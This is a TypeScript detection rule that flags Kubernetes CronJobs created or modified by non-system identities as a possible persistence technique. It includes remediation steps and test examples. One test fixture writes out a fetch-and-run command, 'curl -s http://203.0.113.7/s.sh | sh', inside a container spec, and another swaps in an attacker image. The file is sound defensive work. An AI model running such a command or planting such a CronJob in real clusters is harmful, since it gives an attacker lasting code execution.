import { type AuditEvent } from '../../../kubernetes/auditEvent';
import { asObject, asString, getPath } from '../../../kubernetes/jsonValues';
import { objectName, workloadContainers, writtenObject } from '../../../kubernetes/workloads';
import { type AlertEntity, EntityType } from '../../entities';
import { auditEvent, container, cronJobObject, workloadEvent, workloadPatchEvent } from '../../exampleEvents';
import { isSystemRequest } from '../../predicates/identities';
import { commandLineOf, imagesOf } from '../../predicates/podSecurity';
import { apiGroupOf, isResource, isWrite, namespaceOf, succeeded } from '../../predicates/requests';
import { redactText } from '../../redaction';
import { containerEntities, requestEntities } from '../../requestEntities';
import { defineRule, Intent, Severity } from '../../rule';

/** A CronJob written with a spec: created, replaced, or patched in what it runs or when (not a label-only patch). */
function writesCronJobSpec(event: AuditEvent): boolean {
  return isResource(event, 'cronjobs') && apiGroupOf(event) === 'batch' && asObject(writtenObject(event)?.spec) !== undefined;
}

const backdoor = () =>
  container({ name: 'sync', image: 'docker.io/library/alpine:3.20', command: ['sh', '-c', 'curl -s http://203.0.113.7/s.sh | sh'] });

const nightlyBackup = { namespace: 'data', name: 'nightly-backup' };

export const cronjobPersistence = defineRule({
  id: 'cronjob-persistence',
  alertType: 'K8S_CronJobCreatedOrModified',
  displayName: 'CronJob created or modified',
  description:
    'A CronJob was created, or its schedule or job template changed, by an identity that is not one of the cluster\'s own. ' +
    'A CronJob starts a new pod on every tick, so attackers use it to keep running code in the cluster after their first ' +
    'foothold is cleaned up, or to swap a legitimate job\'s image for their own.',
  // New alert type: Low. CronJobs are routine (backups, reports); raised to Medium in platform namespaces, where users seldom add them.
  severity: Severity.Low,
  severityFor: (event, context) => (context.lists.infrastructureNamespaces.matches(namespaceOf(event)) ? Severity.Medium : Severity.Low),
  intent: Intent.Persistence,
  techniques: ['T1053.007'],
  remediation: [
    'Confirm with the namespace owner that the CronJob and its schedule, image and command are expected.',
    'If not, delete it (and the Jobs and pods it created), and review the identity that wrote it.',
    'Deploy scheduled jobs through a pipeline or GitOps identity so that hand-made changes stand out.',
  ],
  falsePositives: [
    'Teams and Helm charts deploying or upgrading backup, report and cleanup jobs.',
    'Suspending or resuming a CronJob (`spec.suspend`) by hand.',
  ],
  references: [
    'https://kubernetes.io/docs/concepts/workloads/controllers/cron-jobs/',
    'https://attack.mitre.org/techniques/T1053/007/',
  ],
  equivalents: { defender: [], falco: [], guardDuty: [], elastic: ['Kubernetes CronJob/Job Modification'] },
  resources: ['cronjobs'],
  match: (event, context) => isWrite(event) && succeeded(event) && writesCronJobSpec(event) && !isSystemRequest(event, context),
  entities: (event) => {
    const containers = workloadContainers(event);
    const processes = containers
      .map((c) => commandLineOf(c))
      .filter((commandLine) => commandLine !== '')
      .map((commandLine): AlertEntity => ({ type: EntityType.process, commandLine: redactText(commandLine) }));
    return [...requestEntities(event), ...containerEntities(containers), ...processes];
  },
  details: (event) => ({
    verb: event.verb,
    schedule: asString(getPath(writtenObject(event), 'spec', 'schedule')) ?? '',
    images: imagesOf(workloadContainers(event)).join(', '),
    containers: workloadContainers(event)
      .map((c) => c.name)
      .join(', '),
  }),
  dedupKey: (event) => `${namespaceOf(event) ?? ''}|${objectName(event) ?? ''}|${event.user.username}`,
  examples: [
    {
      name: 'a user creates a CronJob that fetches and runs a script every minute',
      expect: 'alert',
      event: workloadEvent('cronjobs', { containers: [backdoor()], restartPolicy: 'OnFailure' }, { name: 'log-sync', schedule: '* * * * *' }),
    },
    {
      name: 'a patch swaps the image of an existing backup CronJob',
      expect: 'alert',
      event: workloadPatchEvent('cronjobs', nightlyBackup, [
        { op: 'replace', path: '/spec/jobTemplate/spec/template/spec/containers/0/image', value: 'docker.io/attacker/backup:latest' },
      ]),
    },
    {
      name: 'a CronJob created in kube-system',
      expect: 'alert',
      event: workloadEvent('cronjobs', { containers: [backdoor()], restartPolicy: 'OnFailure' }, { namespace: 'kube-system', name: 'etcd-defrag' }),
    },
    {
      name: 'a label-only patch of a CronJob',
      expect: 'none',
      event: workloadPatchEvent('cronjobs', nightlyBackup, { metadata: { labels: { team: 'data' } } }),
    },
    {
      name: 'the cronjob controller updates the CronJob status',
      expect: 'none',
      event: auditEvent({
        verb: 'update',
        resource: 'cronjobs',
        subresource: 'status',
        apiGroup: 'batch',
        ...nightlyBackup,
        user: 'system:serviceaccount:kube-system:cronjob-controller',
        requestObject: { ...cronJobObject({ containers: [container()] }, 'nightly-backup', 'data'), status: { lastScheduleTime: '2026-11-02T02:00:00Z' } },
      }),
    },
    {
      name: 'a system identity writes a CronJob',
      expect: 'none',
      event: workloadEvent(
        'cronjobs',
        { containers: [container()] },
        { verb: 'update', namespace: 'kube-system', name: 'cleanup', user: 'system:serviceaccount:kube-system:addon-manager' },
      ),
    },
    {
      name: 'a refused CronJob',
      expect: 'none',
      event: workloadEvent('cronjobs', { containers: [backdoor()] }, { name: 'log-sync', code: 403 }),
    },
  ],
});
